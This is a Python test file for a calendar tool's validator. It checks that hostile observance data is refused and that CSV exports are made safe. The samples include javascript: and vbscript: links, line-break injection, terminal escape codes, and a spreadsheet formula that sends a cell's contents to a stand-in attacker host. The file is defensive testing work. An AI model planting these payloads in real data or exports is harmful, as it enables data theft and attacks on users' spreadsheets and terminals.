"""`check` refuses calendar data that would attack the people and programs it reaches.

A `javascript:` link would be published in feeds, JSON, email, Slack and Teams; a CR or LF in a
link breaks every iCalendar line after it; a name starting with `=` runs as a formula in the
comms team's spreadsheet; an ESC in a name rewrites the reviewer's terminal. Each is a problem
line naming file, line, observance and field, exit 1.
"""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest

from support.cli import CliRunner

GOOD = """
[[observance]]
id = "pride-month"
name = "Pride Month"
categories = ["sexual_orientation"]
rule = { kind = "month", month = 6 }
description = "LGBT+ Pride Month."
sources = ["https://example.org/pride"]
"""


def _calendar(tmp_path: Path, **fields: str) -> Path:
    """A calendars/ folder holding GOOD with `fields` (TOML values, as written) replaced."""
    lines = []
    for line in GOOD.strip().splitlines():
        key = line.split(" = ", 1)[0]
        lines.append(f"{key} = {fields.pop(key)}" if key in fields else line)
    lines += [f"{key} = {value}" for key, value in fields.items()]
    folder = tmp_path / "calendars"
    folder.mkdir()
    (folder / "local.toml").write_text("\n".join(lines) + "\n", encoding="utf-8")
    (tmp_path / "campaigns").mkdir()
    return tmp_path


CASES = {
    "javascript-url": (
        {"url": '"javascript:alert(1)"'},
        "local.toml:8: pride-month: url: 'javascript:alert(1)' is not a link we publish: it has "
        "javascript:; only http(s) links are published",
    ),
    "data-url": ({"url": '"data:text/html,hi"'}, "it has data:; only http(s) links"),
    "lf-in-url": (
        {"url": '"https://example.org/a\\nb"'},
        "local.toml:8: pride-month: url: 'https://example.org/a\\nb' is not a link we publish: "
        "it contains a line feed (LF), which no link may hold",
    ),
    "cr-in-url": ({"url": '"https://example.org/\\r"'}, "it contains a carriage return (CR)"),
    "trailing-newline-url": ({"url": '"https://example.org/\\n"'}, "a line feed (LF)"),
    "no-host": ({"url": '"https:///path"'}, "it has no host name"),
    "bad-port": ({"url": '"https://example.org:99999/"'}, "it is not a valid address"),
    "javascript-source": (
        {"sources": "[\"javascript:alert('s')\"]"},
        "local.toml:7: pride-month: sources: entry 1: \"javascript:alert('s')\" is not a link "
        "we publish",
    ),
    "structured-source": (
        {"sources": '[{ url = "javascript:x", supports = "rule" }]'},
        "pride-month: sources: entry 1: 'javascript:x' is not a link we publish",
    ),
    "year-url": (
        {"years": '{ 2026 = { theme = "x", url = "vbscript:x" } }'},
        "pride-month: years.2026.url: 'vbscript:x' is not a link we publish",
    ),
    "formula-name": (
        {"name": '\'=HYPERLINK("http://evil.example/?x="&A1,"Click")\''},
        'local.toml:3: pride-month: name: \'=HYPERLINK("http://evil.example/?x="&A1,"Click")\' '
        "starts with '=', which spreadsheets run as a formula when the CSV export is opened",
    ),
    "plus-name": ({"name": '"+44 day"'}, "starts with '+', which spreadsheets run"),
    "at-theme": (
        {"years": '{ 2026 = { theme = "@SUM(A1)" } }'},
        "pride-month: years.2026.theme: '@SUM(A1)' starts with '@'",
    ),
    "escape-in-name": (
        {"name": '"Pride\\u001b[2J"'},
        "local.toml:3: pride-month: name: 'Pride\\x1b[2J' contains the control character "
        "U+001B (ESC) at position 6",
    ),
    "bidi-override": ({"name": '"Pride \\u202e"'}, "control character U+202E"),
    "bell-in-description": (
        {"description": '"Ring\\u0007"'},
        "pride-month: description: contains the control character U+0007 (BEL)",
    ),
}


@pytest.mark.parametrize(("fields", "message"), CASES.values(), ids=list(CASES))
def test_check_refuses_hostile_values(
    fields: dict[str, str],
    message: str,
    tmp_path: Path,
    run_cli: CliRunner,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.chdir(_calendar(tmp_path, **fields))
    result = run_cli("check")
    assert result.code == 1, result.out
    assert message in result.err
    assert "\x1b" not in result.err


def test_multiline_descriptions_and_http_links_pass(
    tmp_path: Path, run_cli: CliRunner, monkeypatch: pytest.MonkeyPatch
) -> None:
    """What real data holds still passes: paragraphs with tabs, http and https links, prose
    sources, names starting with a digit or a quote mark."""
    monkeypatch.chdir(
        _calendar(
            tmp_path,
            name="\"'Pride' 2026\"",
            description='"""First paragraph.\n\n\tSecond, after a tab."""',
            url='"http://example.org/pride?a=1&b=2"',
            sources='["Leaflet from the LGBT Foundation, 2026", "https://example.org/"]',
        )
    )
    result = run_cli("check")
    assert result.code == 0, result.err


def test_csv_exports_neutralise_formulas(
    tmp_path: Path, run_cli: CliRunner, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Descriptions may start with anything (`- a list`), so the CSV writer makes a cell that
    starts like a formula inert with a leading apostrophe; numbers stay numbers."""
    formula = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
    monkeypatch.chdir(_calendar(tmp_path, description="'" + formula + "'"))
    assert run_cli("check").code == 0
    result = run_cli("occurrences", "--from", "2026-06-01", "--to", "2026-06-30", "--format", "csv")
    assert result.code == 0, result.err
    rows = list(csv.DictReader(io.StringIO(result.out)))
    assert [r["description"] for r in rows] == ["'" + formula]
    assert [r["may_vary_days"] for r in rows] == ["0"]
    assert [r["start"] for r in rows] == ["2026-06-01"]
